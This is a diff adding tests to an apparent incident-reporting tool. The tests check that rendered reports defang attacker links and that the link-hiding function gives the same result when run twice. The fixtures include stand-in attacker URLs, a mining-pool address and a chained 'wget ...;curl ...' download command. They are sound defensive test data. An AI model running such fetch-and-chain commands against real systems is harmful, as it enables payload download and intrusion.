@@ -19,6 +19,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from kanaria import knowledge
+from kanaria.core.text import hide_links
 from kanaria.core.types import (
     Analysis,
     Impact,
@@ -41,8 +42,12 @@ from kanaria.report import (
     plots,
     schema,
     text,
+    text_brief,
+    text_story,
 )
 from kanaria.report.document import document
+from kanaria.report.story import write_stories
+from kanaria.respond import message
 from tests.report.report_samples import analysis, evidence, finding, incident
 
 FACTS = knowledge.load()
@@ -255,3 +260,48 @@ def test_any_text_in_any_field(payload: str) -> None:
     assert len(list(csv.DictReader(io.StringIO(export_csv.export(run, "ja"), newline="")))) == 2
     text.render(run, FACTS, "ja").encode("utf-8")
     json.dumps(document(run, FACTS), ensure_ascii=False).encode("utf-8")
+
+
+LINKS = (
+    "http://evil.example.net/x.sh",
+    "GET /?a=https://user@evil.example.net:8080/x HTTP/1.1",
+    "FTP://evil.example.net/a",
+    "see www.evil.example.net",
+    "stratum+tcp://pool.evil.example.net:3333",
+    "http://[2001:db8::1]/x",
+    "wget http://203.0.113.9/x;curl https://evil.example.net",
+)
+
+
+@pytest.mark.parametrize("link", LINKS)
+@pytest.mark.parametrize("language", ["en", "ja"])
+def test_what_people_read_holds_no_link_of_an_attackers_and_json_all_of_it(
+    link: str, language: Language, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(plots, "embedded", lambda *_: {})
+    run = hostile(link)
+    made = {incident.id: write_stories(incident, run, FACTS) for incident in run.incidents}
+    page = Structure()
+    page.feed(html.render(run, FACTS, language))
+    told = message.one(message.brief(document(run, FACTS)["incidents"][0]), "m", message.Style(language=language))
+    for shown in (
+        text.render(run, FACTS, language),
+        text_brief.render(run, FACTS, language),
+        text_story.render(run, made, language),
+        text_story.render_markdown(run, made, language, lambda words: words),
+        markdown.render(run, FACTS, language).replace("\\", ""),
+        "".join(page.words),
+        told.title + told.body,
+    ):
+        live = re.search(r"(?i)(?:https?|ftp)://|://[\w@.-]*[a-z]\.[a-z]|\bwww\.\w|(?<!\[)\.evil|evil\.example", shown)
+        assert live is None, shown[max(live.start() - 60, 0) : live.end() + 60]
+    (quoted,) = {item["quote"] for item in document(run, FACTS)["incidents"][0]["evidence"] if item["quote"]}
+    assert quoted == link
+
+
+@given(
+    st.text(max_size=60)
+    | st.lists(st.sampled_from(["http://", "www.", "a.b", "/", ":", "[", "@", " ", "hxxp"])).map("".join)
+)
+def test_hiding_links_twice_is_hiding_them_once(words: str) -> None:
+    assert hide_links(hide_links(words)) == hide_links(words)
